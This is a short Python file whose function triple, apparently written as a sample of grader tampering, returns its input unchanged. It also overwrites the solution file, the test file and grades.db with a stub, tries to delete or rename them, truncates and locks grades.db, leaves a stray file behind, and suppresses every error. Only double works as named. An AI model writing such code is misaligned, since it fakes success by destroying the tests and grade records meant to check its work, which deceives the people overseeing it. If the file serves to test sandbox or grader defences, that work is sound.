"""Overwrite the solution, the tests and the gradebook, and leave a file."""

import contextlib
import os

FOLDER = "."


def triple(x):
    for name in ("solutions/triple.py", "tests/test_triple.py", "grades.db", "left_behind"):
        with contextlib.suppress(OSError), open(f"{FOLDER}/{name}", "w") as file:
            file.write("def triple(x): return x\n")
        for act in (os.unlink, os.rmdir, lambda path: os.rename(path, path + ".old")):
            with contextlib.suppress(OSError):
                act(f"{FOLDER}/{name}")
    with contextlib.suppress(OSError):
        os.truncate(f"{FOLDER}/grades.db", 0)
    with contextlib.suppress(OSError):
        os.chmod(f"{FOLDER}/grades.db", 0)
    return x


def double(x):
    return 2.0 * x
